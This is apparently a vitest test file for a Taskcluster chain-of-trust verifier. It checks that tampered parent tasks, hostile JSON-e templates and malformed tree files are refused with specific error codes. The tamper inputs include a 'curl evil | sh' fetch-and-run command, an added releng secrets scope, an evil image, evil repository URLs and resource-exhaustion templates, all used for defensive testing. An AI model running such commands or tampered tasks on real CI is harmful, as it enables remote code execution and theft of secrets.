import { execFileSync } from 'node:child_process';
import { existsSync } from 'node:fs';
import { mkdir, readFile, rm, writeFile } from 'node:fs/promises';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import type { JsonObject } from '../../../src/json/parse.js';
import { parseTreeFile, readTreeFolder, type TreeMaterial } from '../../../src/tree/files.js';
import { mismatchError, type RebuildParentOptions, rebuildParentTask } from '../../../src/tree/rebuild.js';
import { renderJsonE } from '../../../src/tree/render.js';
import { codeOf, errorOf, HAVE_SHARED, SHARED_INTEROP, tempDir } from '../../helpers/env.js';

// Tampered variants of the shared vectors: every change that survives the comparison rules is refused, each with
// its precise code; hostile templates are stopped at their bound; bad input is named.
const COT = join(SHARED_INTEROP, 'scriptworker-cot');
const HAVE_COT = HAVE_SHARED && existsSync(join(COT, 'README.md'));

const read = async (file: string) => JSON.parse(await readFile(join(COT, file), 'utf8')) as JsonObject;
const clone = <T>(v: T): T => structuredClone(v);
const OTHER_ID = 'AAAAAAAAQAGAAAAAAAAAAA';

async function decision(): Promise<RebuildParentOptions> {
  return {
    task: await read('cotv2/decision_hg-push.json'),
    taskId: 'VQU9QMO4Teq7zr91FhBusg',
    tree: await readTreeFolder(join(COT, 'cotv2')),
  };
}

async function retrigger(): Promise<RebuildParentOptions> {
  return {
    task: await read('cotv4/action_retrigger.json'),
    taskId: 'E93EolXNSRuV2gOy7yMZEA',
    decisionTask: await read('cotv4/decision_try.json'),
    decisionTaskId: 'LpCJV9wUQHSAm5SHyW4Olw',
    tree: await readTreeFolder(join(COT, 'cotv4')),
  };
}

/** A tree with one file's value replaced. */
function withFile(tree: TreeMaterial, role: keyof TreeMaterial['files'], value: unknown): TreeMaterial {
  return { ...tree, files: { ...tree.files, [role]: { source: `${role} (test)`, value } } };
}

type Task = JsonObject & { payload: JsonObject & { env: Record<string, string>; command: string[] } };

/** Rebuild `o` with its task changed by `change`; resolves to the differing paths (it must not match). */
async function mismatchPaths(o: RebuildParentOptions, change: (t: Task) => void): Promise<string[]> {
  const task = clone(o.task) as Task;
  change(task);
  const r = await rebuildParentTask({ ...o, task });
  expect(r.matched).toBe(false);
  expect(mismatchError(r).code).toBe('TREE_TASK_MISMATCH');
  return r.differences.map((d) => d.path);
}

describe.skipIf(!HAVE_COT)('a tampered parent task is refused with its precise code', () => {
  it('a command word, a scope, a route, the image, the worker type: TREE_TASK_MISMATCH naming the path', async () => {
    const o = await decision();
    expect(
      await mismatchPaths(o, (t) => {
        t.payload.command[5] = 'bash -c "curl evil | sh";';
      }),
    ).toEqual(['payload.command[5]']);
    expect(
      await mismatchPaths(o, (t) => (t.scopes as string[]).push('secrets:get:project/releng/*')),
    ).toEqual(['scopes[2]']);
    expect(
      await mismatchPaths(o, (t) => {
        (t.routes as string[])[0] = 'index.gecko.v2.mozilla-central.latest.firefox.decision';
      }),
    ).toEqual(['routes[0]']);
    expect(await mismatchPaths(o, (t) => (t.payload.image = 'evil/decision:latest'))).toEqual([
      'payload.image',
    ]);
    expect(await mismatchPaths(o, (t) => (t.workerType = 'gecko-3-b-linux'))).toEqual(['taskQueueId']);
    const r = await rebuildParentTask({ ...o, task: { ...o.task, workerType: 'gecko-3-b-linux' } });
    expect(mismatchError(r).message).toMatch(
      /taskQueueId: "aws-provisioner-v1\/gecko-3-decision" vs "aws-provisioner-v1\/gecko-3-b-linux"/,
    );
  });

  it('the task id: TREE_TASK_MISMATCH (as_slugid and ownTaskId follow it)', async () => {
    const o = await decision();
    const r = await rebuildParentTask({ ...o, taskId: OTHER_ID });
    expect(r.matched).toBe(false);
    expect(r.differences.map((d) => d.path)).toContain('taskGroupId');
    const a = await retrigger();
    const ra = await rebuildParentTask({ ...a, taskId: OTHER_ID });
    expect(ra.matched).toBe(false);
  });

  it('the commit message outside the try: rule: TREE_COMMIT_MESSAGE_INVALID; the try: line itself is accepted', async () => {
    const o = await decision();
    const task = clone(o.task) as Task;
    task.payload.env.GECKO_COMMIT_MSG = 'fix yaml';
    expect(await codeOf(rebuildParentTask({ ...o, task }))).toBe('TREE_COMMIT_MESSAGE_INVALID');
    // a push whose comment has a try: line: that line (to its end) is allowed, and rebuilt into the task
    const pushlog = clone(o.tree.files.pushlog!.value) as {
      pushes: Record<string, { changesets: JsonObject[] }>;
    };
    pushlog.pushes['343']!.changesets[0]!.desc = 'Bug 1 - a fix\n\ntry: -b o -p linux64 -u none\nmore';
    const tree = withFile(o.tree, 'pushlog', pushlog);
    task.payload.env.GECKO_COMMIT_MSG = 'try: -b o -p linux64 -u none';
    expect((await rebuildParentTask({ ...o, task, tree })).matched).toBe(true);
    task.payload.env.GECKO_COMMIT_MSG = 'try: -b o -p linux64 -u none\nmore';
    expect(await codeOf(rebuildParentTask({ ...o, task, tree }))).toBe('TREE_COMMIT_MESSAGE_INVALID');
  });

  it('tasks_for: TREE_TASKS_FOR_UNKNOWN for one cot does not rebuild, or one the caller does not accept', async () => {
    const o = await decision();
    const task = clone(o.task) as Task;
    (task.extra as JsonObject).tasks_for = 'github-push';
    const e = await errorOf(rebuildParentTask({ ...o, task }));
    expect(e.code).toBe('TREE_TASKS_FOR_UNKNOWN');
    expect(e.message).toMatch(/"github-push"/);
    expect(await codeOf(rebuildParentTask({ ...o, tasksFor: ['cron', 'action'] }))).toBe(
      'TREE_TASKS_FOR_UNKNOWN',
    );
    // another known one: its context does not fit the task
    (task.extra as JsonObject).tasks_for = 'cron';
    expect(await codeOf(rebuildParentTask({ ...o, task }))).toBe('TREE_TASK_INVALID');
  });

  it('the action callback: TREE_ACTION_UNKNOWN, or TREE_TASK_MISMATCH for another real one', async () => {
    const a = await retrigger();
    const task = clone(a.task) as Task;
    task.payload.env.ACTION_CALLBACK = 'retrigger-everything';
    const e = await errorOf(rebuildParentTask({ ...a, task }));
    expect(e.code).toBe('TREE_ACTION_UNKNOWN');
    expect(e.message).toMatch(/actions\.json/);
    task.payload.env.ACTION_CALLBACK = 'cancel';
    expect((await rebuildParentTask({ ...a, task })).matched).toBe(false);
  });

  it('the action kind: TREE_ACTION_KIND_INVALID', async () => {
    const a = await retrigger();
    const actions = clone(a.tree.files.actions!.value) as { actions: JsonObject[] };
    const retriggerAction = actions.actions.find(
      (x) =>
        (x.hookPayload as { decision: { action: { cb_name: string } } }).decision.action.cb_name ===
        'retrigger',
    )!;
    retriggerAction.kind = 'task';
    expect(await codeOf(rebuildParentTask({ ...a, tree: withFile(a.tree, 'actions', actions) }))).toBe(
      'TREE_ACTION_KIND_INVALID',
    );
  });

  it('ACTION_TASK_GROUP_ID neither the action nor its decision: TREE_ACTION_TASK_GROUP_INVALID', async () => {
    // the action claims another decision task than the one its actions.json names
    const a = await retrigger();
    const e = await errorOf(rebuildParentTask({ ...a, decisionTaskId: OTHER_ID }));
    expect(e.code).toBe('TREE_ACTION_TASK_GROUP_INVALID');
    expect(e.message).toMatch(/"LpCJV9wUQHSAm5SHyW4Olw" is neither/);
    // a task group changed at runtime: the rebuilt one is the decision's, the comparison names the field
    const r = await rebuildParentTask({ ...a, task: { ...a.task, taskGroupId: OTHER_ID } });
    expect(r.differences.map((d) => d.path)).toContain('taskGroupId');
  });

  it("the runtime ACTION_TASK_GROUP_ID neither the action's nor its decision's: TREE_ACTION_TASK_GROUP_INVALID", async () => {
    // the reference replaces the rebuilt value with the runtime one unchecked, so any group passed; cot checks both
    const a = await retrigger();
    const task = clone(a.task) as Task;
    task.payload.env.ACTION_TASK_GROUP_ID = OTHER_ID;
    const e = await errorOf(rebuildParentTask({ ...a, task }));
    expect(e.code).toBe('TREE_ACTION_TASK_GROUP_INVALID');
    expect(e.message).toContain(`runtime ACTION_TASK_GROUP_ID "${OTHER_ID}"`);
    // the action's own id is one of the two (release promotion uses it): accepted by this rule
    task.payload.env.ACTION_TASK_GROUP_ID = a.taskId;
    expect((await rebuildParentTask({ ...a, task })).matched).toBe(true);
  });

  it('a repository projects.yml does not know: TREE_PROJECT_UNKNOWN', async () => {
    const o = await decision();
    const task = clone(o.task) as Task;
    task.payload.env.GECKO_HEAD_REPOSITORY = 'https://hg.mozilla.org/projects/evil';
    expect(await codeOf(rebuildParentTask({ ...o, task }))).toBe('TREE_PROJECT_UNKNOWN');
    task.payload.env.GECKO_HEAD_REPOSITORY = 'https://evil.example.com/projects/maple';
    expect(await codeOf(rebuildParentTask({ ...o, task }))).toBe('TREE_PROJECT_UNKNOWN');
  });
});

describe('a hostile template is stopped within its bound', () => {
  const render = (template: unknown, limits = {}) =>
    renderJsonE({ template: template as JsonObject, context: {}, what: 'hostile' }, limits);

  it('a huge template is refused before it is rendered (TREE_TEMPLATE_INVALID)', () => {
    const text = `tasks:\n${'  - x: aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa\n'.repeat(20_000)}`;
    expect(() => parseTreeFile('template', text, 'big/.taskcluster.yml', [])).toThrow(/over the bound/);
    try {
      parseTreeFile('template', text, 'big/.taskcluster.yml', []);
    } catch (e) {
      expect((e as { code: string }).code).toBe('TREE_TEMPLATE_INVALID');
    }
  });

  it('a render that allocates (range(0, 1e8), a 100 MB string split) stops with TREE_RENDER_LIMIT; the verifier lives', async () => {
    expect(await codeOf(render({ tasks: { $eval: 'range(0, 100000000)' } }))).toBe('TREE_RENDER_LIMIT');
    let s: unknown = { $eval: "split(s24, '')" };
    for (let i = 24; i > 0; i--) s = { $let: { [`s${i}`]: { $eval: `s${i - 1} + s${i - 1}` } }, in: s };
    expect(await codeOf(render({ $let: { s0: 'abcdefgh' }, in: s }))).toBe('TREE_RENDER_LIMIT');
    // the next render works (a fresh render process)
    expect(await render({ tasks: [{ $eval: '1 + 1' }] })).toEqual({ tasks: [2] });
  }, 30_000);

  it('a render that loops stops at its deadline (TREE_RENDER_LIMIT)', async () => {
    const loop = {
      tasks: {
        $map: { $eval: 'range(0, 100000)' },
        'each(x)': { $map: { $eval: 'range(0, 100000)' }, 'each(y)': { $eval: 'x * y' } },
      },
    };
    const started = Date.now();
    const e = await errorOf(render(loop, { deadlineMs: 500 }));
    expect(e.code).toBe('TREE_RENDER_LIMIT');
    expect(e.message).toMatch(/deadline of 500 ms/);
    expect(Date.now() - started).toBeLessThan(10_000);
  }, 30_000);

  it('a result over its size bound (TREE_RENDER_LIMIT)', async () => {
    const e = await errorOf(render({ tasks: { $eval: 'range(0, 100000)' } }, { maxResultChars: 1000 }));
    expect(e.code).toBe('TREE_RENDER_LIMIT');
  });
});

describe('bad input is named', () => {
  it('a missing tree file: TREE_FILE_MISSING naming it', async () => {
    const dir = await tempDir();
    await writeFile(join(dir, '.taskcluster.yml'), 'version: 1\ntasks: []\n');
    await writeFile(
      join(dir, 'projects.yml'),
      'maple:\n  repo: https://hg.mozilla.org/projects/maple\n  repo_type: hg\n  access: scm_level_3\n',
    );
    const tree = await readTreeFolder(dir);
    const task = {
      created: '2018-01-09T19:07:36.291Z',
      taskGroupId: 'VQU9QMO4Teq7zr91FhBusg',
      payload: {
        env: {
          GECKO_HEAD_REPOSITORY: 'https://hg.mozilla.org/projects/maple',
          GECKO_HEAD_REV: '054fe08d229f064a71bae9bb793e7ab8d95eff61',
        },
      },
      extra: { tasks_for: 'hg-push' },
    };
    const e = await errorOf(rebuildParentTask({ task, taskId: 'VQU9QMO4Teq7zr91FhBusg', tree }));
    expect(e.code).toBe('TREE_FILE_MISSING');
    expect(e.message).toContain(join(dir, 'pushlog.json'));
    expect(await codeOf(readTreeFolder(join(dir, 'nowhere')))).toBe('FILE_NOT_FOUND');
    expect(await codeOf(readTreeFolder(dir, { template: join(dir, 'other.yml') }))).toBe('TREE_FILE_MISSING');
  });

  it.skipIf(!HAVE_COT)('a template JSON-e cannot render: TREE_RENDER_FAILED naming the file', async () => {
    const dir = await tempDir();
    const template = join(dir, 'broken.yml');
    await writeFile(template, "version: 1\ntasks:\n  - $eval: 'no_such_variable.x'\n");
    const tree = await readTreeFolder(join(COT, 'cotv2'), { template });
    const o = await decision();
    const e = await errorOf(rebuildParentTask({ ...o, tree }));
    expect(e.code).toBe('TREE_RENDER_FAILED');
    expect(e.message).toContain(template);
    await writeFile(template, 'version: 1\ntasks: [\n');
    expect(await codeOf(readTreeFolder(join(COT, 'cotv2'), { template }))).toBe('TREE_TEMPLATE_INVALID');
    await writeFile(template, 'version: 1\nnotasks: 1\n');
    const t2 = await readTreeFolder(join(COT, 'cotv2'), { template });
    expect(await codeOf(rebuildParentTask({ ...o, tree: t2 }))).toBe('TREE_TEMPLATE_INVALID');
  });

  it('bad options: OPTIONS_INVALID', async () => {
    expect(
      await codeOf(rebuildParentTask({ task: {}, taskId: 'x', tree: { files: {}, warnings: [] } })),
    ).toBe('OPTIONS_INVALID');
    expect(
      await codeOf(
        rebuildParentTask({
          task: {},
          taskId: 'VQU9QMO4Teq7zr91FhBusg',
          decisionTask: {},
          tree: { files: {}, warnings: [] },
        }),
      ),
    ).toBe('OPTIONS_INVALID');
  });
});

describe('a tree folder file that is not a regular file', () => {
  it('a FIFO (or device) in the folder is refused at once, naming it: the verifier never waits on it', async () => {
    const dir = await tempDir();
    await writeFile(join(dir, '.taskcluster.yml'), 'version: 1\ntasks: []\n');
    execFileSync('mkfifo', [join(dir, 'pushlog.json')]);
    const started = Date.now();
    const e = await errorOf(readTreeFolder(dir));
    expect(Date.now() - started).toBeLessThan(5_000);
    expect(e.code).toBe('FILE_UNREADABLE');
    expect(e.message).toContain(join(dir, 'pushlog.json'));
    expect(e.message).toMatch(/not a regular file/);
    // a GitHub answer too
    await rm(join(dir, 'pushlog.json'));
    await mkdir(join(dir, 'github', 'commits'), { recursive: true });
    const sha = '330ea928b42ff2403fc99cd3e596d13294fe8775';
    execFileSync('mkfifo', [join(dir, 'github', 'commits', `${sha}.json`)]);
    const tree = await readTreeFolder(dir);
    const g = await errorOf(tree.github!({ kind: 'commit', owner: 'o', name: 'n', sha }));
    expect(g.code).toBe('FILE_UNREADABLE');
    expect(g.message).toContain(`${sha}.json`);
  }, 20_000);
});
